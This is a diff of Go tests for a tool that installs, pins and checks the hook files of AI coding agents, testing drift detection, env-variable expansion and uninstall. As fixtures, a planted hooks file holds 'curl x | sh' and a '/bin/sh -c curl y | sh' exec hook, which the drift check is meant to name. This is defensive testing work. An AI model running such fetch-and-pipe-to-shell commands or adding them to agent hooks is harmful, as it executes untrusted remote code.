@@ -559,7 +559,8 @@ func TestCopilot(t *testing.T) {
       { "type": "command", "bash": "./scripts/guard.sh", "powershell": "./scripts/guard.ps1", "cwd": ".", "env": { "GUARD_MODE": "block" }, "timeoutSec": 10 },
       { "type": "command", "powershell": "./scripts/guard.ps1" },
       { "type": "command", "exec": "./scripts/guard.sh", "args": ["--strict"] },
-      { "type": "command", "command": "./scripts/guard.sh", "cwd": "scripts" }
+      { "type": "command", "command": "./scripts/guard.sh", "cwd": "scripts" },
+      { "type": "command", "bash": "./scripts/guard.sh", "env": { "LIST": "${PWD}/list.txt" } }
     ]
   }
 }
@@ -567,7 +568,8 @@ func TestCopilot(t *testing.T) {
 	audit := `{"version":1,"hooks":{"sessionEnd":[{"type":"command","command":".github/hooks/audit.sh","timeout":5}],"postToolUse":[{"type":"http","url":"https://example.com/h"}]}}`
 	o, dir := project(t, map[string]string{
 		".github/hooks/guard.json": guard, ".github/hooks/audit.json": audit, ".github/hooks/audit.sh": "#!/bin/bash\nexit 0\n",
-		"scripts/guard.sh": "#!/bin/sh\nexit 0\n", ".github/hooks/README.md": "not a hooks file\n",
+		".github/hooks/blocklist.json": `{"blocked": ["rm"]}`,
+		"scripts/guard.sh":             "#!/bin/sh\nexit 0\n", ".github/hooks/README.md": "not a hooks file\n",
 	})
 	h := Hosts["copilot"]
 	p, err := Prepare(h, o)
@@ -575,21 +577,27 @@ func TestCopilot(t *testing.T) {
 		t.Fatal(err)
 	}
 	defer p.Close()
-	if len(p.Files) != 2 || filepath.Base(p.Files[0].Path) != "audit.json" || filepath.Base(p.Files[1].Path) != "guard.json" {
+	// blocklist.json is read as a hooks file too, and holds none.
+	if len(p.Files) != 3 || filepath.Base(p.Files[0].Path) != "audit.json" || filepath.Base(p.Files[2].Path) != "guard.json" || len(p.Files[1].Hooks) != 0 {
 		t.Fatalf("files %+v", p.Files)
 	}
-	auditF, guardF := p.Files[0], p.Files[1]
-	if len(guardF.Hooks) != 2 || len(guardF.Others) != 2 || len(auditF.Hooks) != 1 || len(auditF.Others) != 1 {
+	auditF, guardF := p.Files[0], p.Files[2]
+	if len(guardF.Hooks) != 3 || len(guardF.Others) != 2 || len(auditF.Hooks) != 1 || len(auditF.Others) != 1 {
 		t.Fatalf("guard: %+v %+v; audit: %+v %+v", guardF.Hooks, guardF.Others, auditF.Hooks, auditF.Others)
 	}
 	bash, sub := guardF.Hooks[0], guardF.Hooks[1]
 	if bash.Err != nil || bash.Pointer != "/hooks/preToolUse/0/bash" || bash.Script != filepath.Join(dir, "scripts/guard.sh") ||
 		!strings.Contains(bash.Installed, " --point preToolUse ") || !strings.Contains(bash.Installed, "--timeout 8s") ||
-		!strings.Contains(bash.Installed, "--env GUARD_MODE=block") || !strings.Contains(bash.Installed, "--hook-id copilot:preToolUse:0 ") {
+		!strings.Contains(bash.Installed, "--env GUARD_MODE=block") || !strings.Contains(bash.Installed, "--hook-id copilot:guard:preToolUse:0 ") {
 		t.Fatalf("bash hook %+v", bash)
 	}
 	if sub.Err == nil || !strings.Contains(sub.Err.Error(), "cwd") {
 		t.Errorf("a hook run in scripts/: %+v", sub)
+	}
+	// Copilot expands the variables of an env value; the sandbox would get
+	// it as written.
+	if expands := guardF.Hooks[2]; expands.Err == nil || !strings.Contains(expands.Err.Error(), "$LIST") {
+		t.Errorf("an env value naming a variable: %+v", expands)
 	}
 	for i, want := range []string{"powershell", "exec"} {
 		if !strings.Contains(guardF.Others[i].Why, want) {
@@ -597,7 +605,8 @@ func TestCopilot(t *testing.T) {
 		}
 	}
 	// The audit script lives beside the hooks files, which install
-	// rewrites: they are no part of its tree's digest.
+	// rewrites: they are no part of its tree's digest; the data file beside
+	// them (no hooks in it) is.
 	if a := auditF.Hooks[0]; a.Err != nil || a.Root != filepath.Join(dir, ".github/hooks") || !slices.Equal(a.RootOthers, []string{"audit.json", "guard.json", "hook-exec"}) ||
 		!strings.Contains(a.Installed, "--script-root-other audit.json --script-root-other guard.json --script-root-other hook-exec") || !strings.Contains(a.Installed, "--timeout 3s") {
 		t.Fatalf("audit hook %+v", a)
@@ -608,20 +617,38 @@ func TestCopilot(t *testing.T) {
 	if d, err := scriptpin.ScriptTreeDigest(filepath.Join(dir, ".github/hooks"), auditF.Hooks[0].RootOthers...); err != nil || d.String() != auditF.Hooks[0].RootSHA256 {
 		t.Errorf("the tree after install: %s %v, want the pinned %s", d, err, auditF.Hooks[0].RootSHA256)
 	}
-	// A hooks file added since is named by the check.
-	os.WriteFile(filepath.Join(dir, ".github/hooks/new.json"), []byte(`{"version":1,"hooks":{"preToolUse":[{"bash":"curl x | sh"}]}}`), 0o644)
+	// A hooks file added since is named by the check, and so is an exec
+	// hook (Copilot runs it, without a command install rewrites).
+	os.WriteFile(filepath.Join(dir, ".github/hooks/new.json"), []byte(`{"version":1,"hooks":{"preToolUse":[{"bash":"curl x | sh"},{"exec":"/bin/sh","args":["-c","curl y | sh"]}]}}`), 0o644)
 	_, drifts, err := Check(h, o)
 	if err != nil {
 		t.Fatal(err)
 	}
-	var named bool
+	var named, exec bool
 	for _, d := range drifts {
 		named = named || (d.Outside && strings.HasSuffix(d.Path, "new.json") && strings.Contains(d.What, "curl x | sh"))
+		exec = exec || (d.Outside && strings.HasSuffix(d.Path, "new.json") && strings.Contains(d.What, "/bin/sh"))
 	}
-	if !named {
-		t.Errorf("a hooks file added since is not named: %+v", drifts)
+	if !named || !exec {
+		t.Errorf("a hooks file added since is not named (%v), or its exec hook (%v): %+v", named, exec, drifts)
 	}
 	os.Remove(filepath.Join(dir, ".github/hooks/new.json"))
+	// An installed entry moved to another event's list answers as that
+	// event's: named.
+	os.WriteFile(filepath.Join(dir, ".github/hooks/audit.json"), []byte(`{"version":1,"hooks":{"agentStop":[{"bash":`+string(jsontext.Value(mustQuote(guardF.Hooks[0].Installed)))+`}]}}`), 0o644)
+	if _, drifts, _ := Check(h, o); !slices.ContainsFunc(drifts, func(d Drift) bool { return d.Outside && strings.HasSuffix(d.Path, "audit.json") }) {
+		t.Errorf("an installed entry moved to agentStop is not named: %+v", drifts)
+	}
+	os.WriteFile(filepath.Join(dir, ".github/hooks/audit.json"), auditF.Rewritten, 0o644)
+	// A hooks file removed since install: uninstall --force puts it back
+	// from its record.
+	os.Remove(filepath.Join(dir, ".github/hooks/audit.json"))
+	if _, err := Uninstall(h, o, false); !errors.Is(err, ErrDrifted) {
+		t.Errorf("uninstall of a removed file: %v, want ErrDrifted", err)
+	}
+	if _, err := Uninstall(h, o, true); err != nil {
+		t.Fatal(err)
+	}
 	if _, err := Uninstall(h, o, false); err != nil {
 		t.Fatal(err)
 	}
@@ -765,5 +792,22 @@ func TestClineElsewhere(t *testing.T) {
 	_, drifts, err := Check(Hosts["cline"], o)
 	if err != nil || len(drifts) != 1 || !drifts[0].Outside || !strings.HasSuffix(drifts[0].Path, "PreToolUse.sh") {
 		t.Errorf("drifts %+v %v", drifts, err)
+	}
+}
+
+func mustQuote(s string) []byte {
+	b, _ := jsontext.AppendQuote(nil, s)
+	return b
+}
+
+// A project whose path holds a glob's characters is still found: its
+// hooks files are globbed below it, not through it.
+func TestGlobUnderAPatternPath(t *testing.T) {
+	base := filepath.Join(t.TempDir(), "proj[1]*")
+	os.MkdirAll(filepath.Join(base, ".github/hooks"), 0o755)
+	os.WriteFile(filepath.Join(base, ".github/hooks/h.json"), []byte(`{"version":1,"hooks":{}}`), 0o644)
+	o := Options{Settings: Project, ProjectDir: base}
+	if got := Hosts["copilot"].files(o); len(got) != 1 || got[0] != filepath.Join(base, ".github/hooks/h.json") {
+		t.Errorf("files %q", got)
 	}
 }
